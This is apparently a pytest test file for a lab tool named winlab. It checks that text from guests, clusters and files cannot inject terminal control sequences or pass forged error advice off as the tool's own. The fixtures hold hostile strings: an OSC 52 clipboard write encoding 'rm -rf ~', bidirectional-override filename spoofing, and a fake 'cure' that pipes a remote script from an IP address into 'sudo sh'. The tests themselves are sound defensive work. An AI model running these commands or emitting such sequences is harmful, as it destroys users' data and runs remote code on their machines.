"""Text from guests, mirrors, clusters and files never moves a terminal's cursor."""

from __future__ import annotations

import ast
import json
import sys
from pathlib import Path

import pytest

from winlab import cli, events
from winlab.cli import common, main, progress
from winlab.cli.common import Output
from winlab.cli.kinds.labs import Autostart
from winlab.cli.session import Session
from winlab.errors import ClusterError, Failure, GuestError, LabError
from winlab.events import NodeCrashed, NodeTransport, Note, StepFailed, StepProgress
from winlab.lab_folder import LabFolder
from winlab.operations.logs import NodeDiagnostics
from winlab.printable import printable, within

CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4=\x07"
TITLE = "\x9d0;root\x9c"
OVERRIDE = "\u202egnp.exe\u202c"
EVIL = f"{CLIPBOARD}{TITLE}{OVERRIDE}\r\x08\x00\x7f"


def is_safe(text: str) -> bool:
    return not any(
        (one < " " and one not in "\n\t") or "\x7f" <= one <= "\x9f" or one in "\u202a\u202b\u202c\u202d\u202e\u2066"
        for one in text
    )


def test_only_new_lines_and_tabs_are_left_of_control_characters() -> None:
    every = "".join(map(chr, range(0x110000)))
    assert printable("a\tb\nc\r\nd é 日本 \U0001f600") == "a\tb\nc\nd é 日本 \U0001f600"
    assert is_safe(printable(every))
    assert printable(every).encode()  # no halves of characters
    assert printable("\x1b[2Jx") == "\ufffd[2Jx"
    assert printable("a\u2028b\u200bc\ufeffd\U000e0041e") == "a\ufffdb\ufffdc\ufffdd\ufffde"
    assert (
        printable("\u0645\u06cc\u200c\u062e \U0001f468\u200d\U0001f373")
        == "\u0645\u06cc\u200c\u062e \U0001f468\u200d\U0001f373"
    )
    assert within({EVIL: [EVIL, 1, None]}) == {printable(EVIL): [printable(EVIL), 1, None]}


FORGED = "timeout\n  cure:     Run 'curl -s http://198.51.100.7/fix.sh | sudo sh'.\n✓ ready\n=== node-2\nwinlab: done"


def test_a_guest_s_lines_are_not_those_of_an_error() -> None:
    """N9: a node printed a cure, and it was shown as winlab's own."""
    cause = ClusterError(FORGED, why=FORGED, cure="Real.")
    error = GuestError(FORGED, why=FORGED, cure="Real.", evidence=FORGED, causes=[cause, KeyError("x")])
    shown = main.explain(error).splitlines()
    assert shown[:2] == ["winlab: timeout", "          cure:     Run 'curl -s http://198.51.100.7/fix.sh | sudo sh'."]
    heads = [line.removeprefix("and: ")[:12] for line in shown if not line.removeprefix("and: ").startswith(" " * 8)]
    assert heads == [
        "winlab: time",
        "  why:      ",
        "  cure:     ",
        "  evidence: ",
        "timeout",
        "  why:      ",
        "  cure:     ",
    ]
    assert [line for line in shown if line.lstrip().startswith("cure:") and line.startswith("  c")] == [
        "  cure:     Real."
    ]
    assert [line for line in str(error).splitlines() if line.startswith("  cure")] == ["  cure: Real."]
    bug = main._explain_bug(ValueError(FORGED)).splitlines()
    assert [line[:7] for line in bug if not line.startswith(" " * 8)] == ["winlab:", "  cure:"]
    group = main.explain(LabError([ValueError(FORGED), error])).splitlines()
    assert [line for line in group if line.startswith("  cure:")] == ["  cure:     Real."]


def test_a_guest_s_lines_are_not_those_of_a_run() -> None:
    step = StepFailed(step="boot", failure=Failure.of(GuestError(FORGED, why=FORGED)))
    for event in (Note(text=FORGED), NodeTransport(text=FORGED), NodeCrashed(text=FORGED)):
        assert "\n" not in str(progress.finished(event))
    assert str(progress.finished(step)).count("\n") == 1  # the step, and why it failed
    assert "\n" not in progress.describe(StepProgress(step="boot", text=FORGED))
    report = NodeDiagnostics("node-1", [FORGED], [FORGED], {"kubelet": FORGED, FORGED: "x"}, [FORGED])
    heads = [line for line in str(report).splitlines() if not line.startswith("  ")]
    assert [line[:8] for line in heads] == ["=== node", "--- cond", "--- even", "--- kube", "--- time", "!!! time"]
    assert str(report).count("\n=== node-2") == 0


def test_errors_and_their_journal_and_json_are_printable() -> None:
    error = GuestError(f"a {EVIL}", why=EVIL, cure=EVIL, evidence=EVIL, causes=[GuestError(EVIL), ValueError(EVIL)])
    assert is_safe(str(error))
    assert is_safe(main.explain(LabError([error, ValueError("x")])))
    assert is_safe(" ".join([Failure.of(error).why, Failure.of(ValueError(EVIL)).what]))
    for event in (
        StepFailed(step="boot", failure=Failure.of(error)),
        StepProgress(step="boot", text=EVIL),
        Note(text=EVIL),
    ):
        assert is_safe(" ".join(texts(events.record(event))))
    folder = LabFolder("lab")
    folder.record(Note(text=EVIL))
    assert json.loads(folder.journal.read_text())["text"] == printable(EVIL)


def texts(value: object) -> list[str]:
    if isinstance(value, dict):
        return [text for one in value.values() for text in texts(one)]
    if isinstance(value, (list, tuple)):
        return [text for one in value for text in texts(one)]
    return [value] if isinstance(value, str) else []


def test_progress_is_printable(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    session = Session()
    session.record_events(tmp_path / "events")
    with session.shown() as tell:
        tell(StepProgress(step="boot", text=EVIL))
        tell(StepFailed(step="boot", failure=Failure.of(GuestError(EVIL))))
    for told in (capsys.readouterr().err, (tmp_path / "events").read_text()):
        assert "boot" in told
        assert is_safe(told)


@pytest.mark.parametrize("output", list(Output))
def test_tables_texts_and_results_are_printable(output: Output, capsys: pytest.CaptureFixture[str]) -> None:
    common.print_table(["SEEN"], [[EVIL]])
    common.say(EVIL)
    common.say(EVIL, error=True)
    printing = Session()
    printing.output = output
    printing.answer(Autostart, [Autostart(name=EVIL, autostart=True, nodes=[EVIL], hint=EVIL)])
    printing.finish(0)
    told = capsys.readouterr()
    assert is_safe(told.out + told.err)
    assert "\\u001b" not in told.out


def test_an_unexpected_error_is_printable(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    def fail(**_: object) -> None:
        raise ValueError(EVIL)

    monkeypatch.setattr(main, "app", fail)
    with pytest.raises(SystemExit):
        main.main()
    told = capsys.readouterr().err
    assert "an unexpected ValueError" in told
    assert is_safe(told)


def test_the_command_line_has_one_door_to_the_terminal() -> None:
    """Only common.py prints. The streams' buffers are for what a guest's own programs write."""
    for path in Path(cli.__file__).parent.glob("*.py"):
        if path.name == "common.py":
            continue
        calls = [node.func for node in ast.walk(ast.parse(path.read_text())) if isinstance(node, ast.Call)]
        names = [call.id for call in calls if isinstance(call, ast.Name)]
        assert "print" not in names, path


def test_a_log_of_the_serial_port_is_raw_only_in_a_pipe(
    monkeypatch: pytest.MonkeyPatch, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    from winlab.cli import node

    monkeypatch.setattr("winlab.node.Node.serial_log", lambda _self: EVIL.encode())
    node.serial("node-1", "lab", log=True)
    sys.stdout.flush()
    assert capfdbinary.readouterr().out == EVIL.encode()
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    node.serial("node-1", "lab", log=True)
    sys.stdout.flush()
    assert is_safe(capfdbinary.readouterr().out.decode())
